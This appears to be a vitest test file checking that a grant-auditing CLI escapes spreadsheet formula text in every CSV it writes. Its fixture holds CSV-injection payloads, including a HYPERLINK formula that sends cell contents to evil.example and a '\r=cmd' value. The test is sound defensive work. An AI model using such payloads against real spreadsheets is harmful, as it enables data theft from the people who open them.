import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { x as extractTar } from "tar";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { appendLedgerEvent } from "../../src/audit/ledger/index.js";
import { runCli } from "../support/cli.js";
import { aliceRecord, applyEvent } from "../support/grant-record.js";

// Issue 13 item 7: grant text that a spreadsheet would run as a formula is written as text in
// every CSV tempgrant writes: audit report, the evidence pack's report.csv and audit diff.
const dir = mkdtempSync(join(tmpdir(), "tempgrant-csv-injection-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const ledger = join(dir, "ledger.jsonl");
const now = "2026-11-25T18:00:00Z";
const record = aliceRecord({
  id: "-2+3",
  principal: "@SUM(A1:A9)",
  target: "+1",
  reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  ticket: "\t=1",
  requestedBy: "\r=cmd",
  approvedBy: ["=1+1"],
});
const FORMULA_TEXT = [record.id, record.principal, record.target, record.reason, record.ticket];

/** No cell of a CSV starts with a character a spreadsheet reads as a formula. */
function expectNoFormula(csv: string): void {
  // csv-stringify quotes cells holding quotes, tabs or newlines: read the first character after an opening quote too.
  const cells = csv.split(/,|\n/).map((cell) => cell.replace(/^"/, ""));
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(csv).toContain("'=HYPERLINK(");
  expect(csv).toContain("'@SUM(A1:A9)");
}

beforeAll(async () => {
  await appendLedgerEvent(ledger, applyEvent(record, now));
});

describe("CSV never carries a formula", () => {
  it("audit report --format csv", async () => {
    const result = await runCli([
      "audit",
      "report",
      "--ledger",
      ledger,
      "--format",
      "csv",
      "--to",
      "2026-11-26T00:00:00Z",
    ]);
    expect(result.exitCode, result.stderr).toBe(0);
    expectNoFormula(result.stdout);
    expect(result.stdout).toContain("'-2+3");
  });

  it("the evidence pack's report.csv", async () => {
    const out = join(dir, "pack.tar.gz");
    const result = await runCli([
      "audit",
      "export",
      "--ledger",
      ledger,
      "--out",
      out,
      "--to",
      "2026-11-26T00:00:00Z",
    ]);
    expect(result.exitCode, result.stderr).toBe(0);
    const unpacked = mkdtempSync(join(dir, "pack-"));
    await extractTar({ file: out, cwd: unpacked });
    expectNoFormula(readFileSync(join(unpacked, "report.csv"), "utf8"));
  });

  it("audit diff --format csv", async () => {
    const before = join(dir, "before.json");
    const after = join(dir, "after.json");
    writeFileSync(before, JSON.stringify({ format_version: "1.0" }));
    writeFileSync(
      after,
      JSON.stringify({
        format_version: "1.0",
        values: {
          root_module: {
            resources: [
              {
                address: "terraform_data.grant",
                mode: "managed",
                type: "terraform_data",
                name: "grant",
                values: { input: record },
              },
            ],
          },
        },
      }),
    );
    const result = await runCli(["audit", "diff", before, after, "--format", "csv"]);
    expect(result.exitCode, result.stderr).toBe(0);
    expectNoFormula(result.stdout);
    for (const text of FORMULA_TEXT) expect(result.stdout).toContain(`'${text.replaceAll('"', '""')}`);
  });
});
